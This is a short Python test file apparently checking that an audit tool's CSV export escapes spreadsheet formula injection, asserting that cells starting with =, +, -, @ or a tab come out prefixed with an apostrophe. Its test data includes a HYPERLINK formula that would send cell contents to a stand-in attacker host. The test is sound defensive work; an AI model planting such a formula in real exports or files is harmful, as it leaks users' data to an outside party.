"""The trail's CSV exports open in a spreadsheet as text, never as formulas (a security test)."""

from __future__ import annotations

import csv
import io

from rzcp.audit.csvfile import csv_line


def test_a_cell_a_spreadsheet_would_run_is_kept_as_text() -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    cells = [name, "+31 20", "-1", "@SUM(A1)", "\tx", "Huisarts, De Linde", 4, None]
    (row,) = csv.reader(io.StringIO(csv_line(cells).decode()))
    assert row == ["'" + name, "'+31 20", "'-1", "'@SUM(A1)", "'\tx", "Huisarts, De Linde", "4", ""]
